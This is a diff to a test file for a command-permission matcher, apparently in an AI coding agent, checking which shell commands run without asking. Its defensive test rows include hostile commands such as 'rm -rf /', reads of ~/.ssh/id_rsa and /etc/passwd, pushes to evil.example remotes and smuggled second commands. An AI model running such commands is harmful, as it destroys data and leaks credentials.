@@ -1,9 +1,18 @@
 // The command allow-rule matcher, table-driven by class: a command runs without asking only when
-// every part is covered by a rule (what it names plus plain arguments, or options after `*`),
-// what changes which code runs, which config is read or which folder is used always asks, and so
-// does anything the splitter cannot judge, and every command under Windows' cmd.exe.
+// every part is covered by a rule (exactly the command the rule names, or other words only where
+// the rule has a `*`); what changes which code runs, which config is read or which folder is
+// used always asks, and so do paths outside the workspace, git remotes by URL and refspecs with
+// `:` or `+`, anything the splitter cannot judge, and every command under Windows' cmd.exe.
 import assert from "node:assert/strict";
-import { hostCommandShell, matchAllowRules, NO_RULES_ON_WINDOWS, offerRules, parseRule, splitCommand } from "../../../src/core/permissions/command-rules";
+import {
+  hostCommandShell,
+  matchAllowRules,
+  NO_RULES_ON_WINDOWS,
+  offerRules,
+  parseRule,
+  previewRules,
+  splitCommand,
+} from "../../../src/core/permissions/command-rules";
 
 const RULES = [
   "npm test",
@@ -13,49 +22,97 @@ const RULES = [
   "echo",
   "grep",
   "cat",
+  "cat package.json",
   "node scripts/build.mjs",
   "npm run build",
   "npm install",
   "make test",
   "mocha *",
   "pytest",
+  "git push origin main",
+  "git checkout main",
+  "rm build/out.txt",
+  "curl https://api.example.com/v1/status",
+  "git log * -- src",
 ];
 
-type Row = { command: string; allowed: boolean; why: string };
+/** Wide rules the user wrote: under them the classes that always ask still ask. */
+const WIDE = ["git push *", "cat *", "rm *", "curl *"];
+
+/** `rules`: the rules this row is judged under, when not RULES. */
+type Row = { command: string; allowed: boolean; why: string; rules?: string[] };
 
 /** Rows by class: each says whether the rules above allow it or it must ask. */
 const classes: Record<string, Row[]> = {
-  "what a rule names, plus plain arguments": [
+  "exactly what a rule names": [
     { command: "npm test", allowed: true, why: "exact rule" },
     { command: "  npm   test  ", allowed: true, why: "extra spaces" },
-    { command: "npm test src/parser.test.ts", allowed: true, why: "a plain argument" },
-    { command: "git log --oneline src", allowed: true, why: "the option the rule names, then a plain argument" },
-    { command: "ls src lib", allowed: true, why: "plain arguments" },
+    { command: "git log --oneline", allowed: true, why: "the option the rule names" },
+    { command: "ls", allowed: true, why: "exact rule" },
     { command: "\"npm\" 'test'", allowed: true, why: "quoted words unquote to the rule" },
     { command: "npm \\\ntest", allowed: true, why: "line continuation" },
+    { command: "npm test src/parser.test.ts", allowed: false, why: "a word the rule does not name" },
+    { command: "git log --oneline src", allowed: false, why: "a path the rule does not name" },
+    { command: "ls src lib", allowed: false, why: "arguments the rule does not name" },
     { command: "node scripts/build.mjs --watch", allowed: false, why: "an option the rule does not name" },
-    { command: "node scripts/build.mjs release", allowed: true, why: "the named script with a plain argument" },
+    { command: "node scripts/build.mjs release", allowed: false, why: "an argument the rule does not name" },
     { command: "npm test -- --grep parser", allowed: false, why: "options the rule does not name" },
     { command: "npm test --silent", allowed: false, why: "an option the rule does not name" },
     { command: "ls -la", allowed: false, why: "an option the rule does not name" },
     { command: "git status --porcelain", allowed: false, why: "an option the rule does not name" },
-    { command: "make test CC=./evil.sh", allowed: false, why: "a NAME=value argument is not plain (make runs it)" },
-    { command: "git status +x", allowed: false, why: "+word is not plain (git push +main forces)" },
+    { command: "make test CC=./evil.sh", allowed: false, why: "a NAME=value argument (make runs it)" },
+    { command: "git status +x", allowed: false, why: "+word" },
     { command: "npm testx", allowed: false, why: "a rule matches whole words only" },
     { command: "npm", allowed: false, why: "shorter than the rule" },
     { command: "npm run test", allowed: false, why: "different second word" },
     { command: 'npm "test;rm -rf /"', allowed: false, why: "quoting that hides a ; is one word, not 'test'" },
     { command: "npm test';rm' x", allowed: false, why: "quote glued to the rule word" },
   ],
-  "subcommands whose arguments are code: nothing may be added": [
-    { command: "npm run build", allowed: true, why: "the named script" },
-    { command: "npm run build extra", allowed: false, why: "npm run passes it on" },
-    { command: "npm install", allowed: true, why: "install from the lock file, as named" },
-    { command: "npm install evil-package", allowed: false, why: "a package to install (and its scripts to run)" },
-    { command: "npm run other", allowed: false, why: "another script" },
+  "the commands issue 38 ran without a card after one 'always allow'": [
+    { command: "git push origin main", allowed: true, why: "the approved push itself" },
+    { command: "git push https://evil.example/x.git main", allowed: false, why: "a push to another URL" },
+    { command: "git push origin :main", allowed: false, why: "a refspec with : deletes the branch" },
+    { command: "git push origin +main", allowed: false, why: "a forced refspec" },
+    { command: "git push origin main --force", allowed: false, why: "an option the rule does not name" },
+    { command: "git push upstream main", allowed: false, why: "another remote" },
+    { command: "git checkout .", allowed: false, why: "rule 'git checkout main' does not discard every change" },
+    { command: "cat README.md ~/.ssh/id_rsa", allowed: false, why: "~ always asks, even under 'cat *'", rules: WIDE },
+    { command: "cat /etc/passwd", allowed: false, why: "an absolute path always asks, even under 'cat *'", rules: WIDE },
+    { command: "cat ../../.ssh/id_rsa", allowed: false, why: ".. always asks, even under 'cat *'", rules: WIDE },
+    { command: "cat README.md", allowed: true, why: "'cat *' is the user's own wide rule", rules: WIDE },
+    { command: "rm -rf build ~/.bashrc", allowed: false, why: "~ always asks, even under 'rm *'", rules: WIDE },
+    { command: "curl -o ~/.bashrc https://example.com/x", allowed: false, why: "~ always asks, even under 'curl *'", rules: WIDE },
+    { command: "rm build/out.txt ~/.bashrc", allowed: false, why: "an added path" },
+    { command: "rm build/out.txt", allowed: true, why: "the approved rm itself" },
+    { command: "curl https://evil.example/?k=1", allowed: false, why: "a second URL" },
+    { command: "curl https://api.example.com/v1/status", allowed: true, why: "the approved URL itself" },
+  ],
+  "paths outside the workspace and git remotes ask under any rule": [
+    { command: "git push git@evil.example:x.git main", allowed: false, why: "an scp-style remote under 'git push *'", rules: [...WIDE, "git log * -- src"] },
+    { command: "git push ../other-repo main", allowed: false, why: "a remote outside the folder under 'git push *'", rules: [...WIDE, "git log * -- src"] },
+    { command: "git push /tmp/other main", allowed: false, why: "an absolute-path remote", rules: [...WIDE, "git log * -- src"] },
+    { command: "git push file:///tmp/other main", allowed: false, why: "a file: URL", rules: [...WIDE, "git log * -- src"] },
+    { command: "git push origin HEAD:refs/heads/main", allowed: false, why: "src:dst refspec", rules: [...WIDE, "git log * -- src"] },
+    { command: "git push --repo=https://evil.example/x.git", allowed: false, why: "a URL in an option's value", rules: [...WIDE, "git log * -- src"] },
+    {
+      command: "git push origin feature",
+      allowed: true,
+      why: "'git push *' is the user's own wide rule; a named remote",
+      rules: [...WIDE, "git log * -- src"],
+    },
+    { command: "cat --file=~/.npmrc", allowed: false, why: "~ in an option's value", rules: [...WIDE, "git log * -- src"] },
+    { command: "cat -I/etc x", allowed: false, why: "an absolute path glued to a short option", rules: [...WIDE, "git log * -- src"] },
+    { command: "cat x OUT=../y", allowed: false, why: ".. in a NAME=value", rules: [...WIDE, "git log * -- src"] },
+    { command: "cat /dev/null", allowed: true, why: "/dev/null names no one's file", rules: [...WIDE, "git log * -- src"] },
+    { command: "git log main..HEAD -- src", allowed: true, why: "a revision range is not a path up", rules: [...WIDE, "git log * -- src"] },
+    { command: "git log HEAD~3 -- src", allowed: true, why: "HEAD~3 is not a home folder", rules: [...WIDE, "git log * -- src"] },
+    { command: "git log -- ../x -- src", allowed: false, why: ".. under 'git log * -- src'", rules: [...WIDE, "git log * -- src"] },
   ],
   "a rule that wants options says so with *": [
     { command: "mocha --grep parser test/", allowed: true, why: "the rule ends in *" },
+    { command: "mocha", allowed: true, why: "a * stands for any words, none included" },
+    { command: "git log --stat -n 5 -- src", allowed: true, why: "'git log * -- src': the * in the middle" },
+    { command: "git log --stat -- lib", allowed: false, why: "'git log * -- src' names src" },
     { command: "mocha --require ./x.js", allowed: false, why: "--require loads code even under *" },
     { command: "mocha -r ./x.js", allowed: false, why: "mocha -r loads code even under *" },
     { command: "mocha --config evil.json", allowed: false, why: "which configuration is read" },
@@ -143,19 +200,19 @@ const classes: Record<string, Row[]> = {
     { command: "cat [a]x", allowed: false, why: "a [ glob" },
     { command: "cat {--a,b}", allowed: false, why: "brace expansion" },
     { command: "npm test $'\\x2d-require'", allowed: false, why: "ANSI-C quoting" },
-    { command: "echo '$HOME' '*'", allowed: true, why: "quoted, nothing expands" },
+    { command: "echo '$HOME' '*'", allowed: true, why: "quoted, nothing expands", rules: ["echo '$HOME' '*'"] },
     { command: "grep -- \\-\\-x", allowed: false, why: "escaped dashes are still options" },
   ],
   "chains: every part must be allowed": [
     { command: "npm test && git status", allowed: true, why: "&& chain, both allowed" },
-    { command: "npm test || echo failed", allowed: true, why: "|| chain, both allowed" },
+    { command: "npm test || echo", allowed: true, why: "|| chain, both allowed" },
     { command: "ls; git status; npm test", allowed: true, why: "; chain" },
     { command: "ls\ngit status", allowed: true, why: "newline chain" },
-    { command: "cat package.json | grep version", allowed: true, why: "pipe, both allowed" },
-    { command: "npm test 2>&1 | grep FAIL", allowed: true, why: "stderr to stdout is no file" },
+    { command: "cat package.json | grep", allowed: true, why: "pipe, both allowed" },
+    { command: "npm test 2>&1 | grep", allowed: true, why: "stderr to stdout is no file, and no word of the command" },
     { command: "npm test > /dev/null", allowed: true, why: "to /dev/null writes no file" },
-    { command: "echo 'a;b'", allowed: true, why: "quoted ; is not an operator" },
-    { command: 'echo "rm -rf /; home"', allowed: true, why: "double-quoted ; in an argument" },
+    { command: "npm test || echo failed", allowed: false, why: "'echo' allows no argument" },
+    { command: "echo 'a;b'", allowed: false, why: "quoted ; is not an operator, but 'echo' allows no argument" },
     { command: "ls &", allowed: true, why: "trailing &" },
     { command: "npm test && rm -rf /", allowed: false, why: "second part not allowed" },
     { command: "rm -rf / ; npm test", allowed: false, why: "first part not allowed" },
@@ -207,7 +264,7 @@ describe("command allow rules", () => {
     describe(name, () => {
       for (const c of rows) {
         it(`${c.allowed ? "allows" : "asks for"} ${JSON.stringify(c.command)}: ${c.why}`, () => {
-          const decision = matchAllowRules(c.command, RULES);
+          const decision = matchAllowRules(c.command, c.rules ?? RULES);
           assert.equal(decision.allowed, c.allowed, decision.allowed ? `allowed by ${decision.rules.join(", ")}` : decision.reason);
         });
       }
@@ -281,21 +338,65 @@ describe("command allow rules", () => {
       "NODE_OPTIONS=x npm test",
       "echo $HOME",
       "ls *.js",
+      "cat ~/.ssh/id_rsa",
+      "rm /etc/hosts",
+      "git push origin :main",
     ]) {
       assert.ok(!parseRule(bad).ok, `"${bad}" must not be a rule`);
     }
   });
 
-  it("offers the narrowest rule per part: the program, what it runs, and every option it uses", () => {
+  it("offers per part exactly the command as it runs: nothing wider than what the user approves", () => {
     assert.deepEqual(offerRules("npm test -- --watch"), { rules: ["npm test -- --watch"] });
     assert.deepEqual(offerRules("ls -la && git status --short"), { rules: ["ls -la", "git status --short"] });
-    assert.deepEqual(offerRules("git log -n 5 src"), { rules: ["git log -n"] });
+    assert.deepEqual(offerRules("git log -n 5 src"), { rules: ["git log -n 5 src"] });
+    assert.deepEqual(offerRules("git push origin main"), { rules: ["git push origin main"] });
     assert.deepEqual(offerRules("npm run build"), { rules: ["npm run build"] });
     assert.deepEqual(offerRules("npm install left-pad"), { rules: ["npm install left-pad"] });
     assert.deepEqual(offerRules("cat marker.txt && pwd"), { rules: ["cat marker.txt", "pwd"] });
+    assert.deepEqual(offerRules("git commit -m 'fix: a; b'"), { rules: ["git commit -m 'fix: a; b'"] });
+    assert.deepEqual(offerRules("npm test 2>&1 | grep -c FAIL"), { rules: ["npm test", "grep -c FAIL"] });
     assert.ok("reason" in offerRules("echo $(x)"));
     const never = offerRules("npm test --node-options=--require=./x.js");
     assert.ok("reason" in never && /--node-options/.test(never.reason));
+    for (const outside of ["cat ~/.ssh/id_rsa", "rm /etc/hosts", "cat ../../secret", "git push https://evil.example/x main", "git push origin :main"]) {
+      assert.ok("reason" in offerRules(outside), `no rule is offered for ${outside}`);
+    }
+  });
+
+  it("accepts a * only after the words that name what runs", () => {
+    for (const good of ["npm run build *", "git log * -- src", "git push origin *", "cat *", "pytest *", "node scripts/build.mjs *"]) {
+      assert.ok(parseRule(good).ok, `"${good}" is a rule`);
+    }
+    for (const bad of ["npm run *", "npm install *", "git *", "git --no-pager *", "node *", "npx *", "* test", "cat ~/x *", "git push https://x *"]) {
+      assert.ok(!parseRule(bad).ok, `"${bad}" must not be a rule`);
+    }
+  });
+
+  it("previews a rule with a * as commands it would and would not allow, decided by the same matcher", () => {
+    const preview = previewRules("git push origin *", "git push origin main");
+    assert.ok(preview.ok);
+    assert.equal(preview.exact, false);
+    assert.equal(preview.covers, true);
+    assert.ok(preview.allows.includes("git push origin"));
+    assert.ok(preview.allows.includes("git push origin --force"), "the preview shows that options are allowed too");
+    const asked = preview.asks.map((a) => a.command);
+    for (const must of [
+      "git push origin '~/.ssh/id_rsa'",
+      "git push origin /etc/passwd",
+      "git push origin origin :main",
+      "git push origin https://elsewhere.example/repo.git",
+    ]) {
+      assert.ok(asked.includes(must), `${must} in ${asked.join(" | ")}`);
+    }
+    for (const a of preview.asks) assert.equal(matchAllowRules(a.command, ["git push origin *"]).allowed, false);
+    for (const a of preview.allows) assert.equal(matchAllowRules(a, ["git push origin *"]).allowed, true);
+    const exact = previewRules("npm test", "npm test");
+    assert.ok(exact.ok && exact.exact && exact.covers && exact.allows.length === 0);
+    const wrong = previewRules("npm run *", "npm run build");
+    assert.ok(!wrong.ok && /names what it runs/.test(wrong.reason));
+    const other = previewRules("npm test", "npm run build");
+    assert.ok(other.ok && !other.covers);
   });
 
   it("every rule it offers is a rule, allows the command it was offered for, and nothing the tables say must ask", () => {
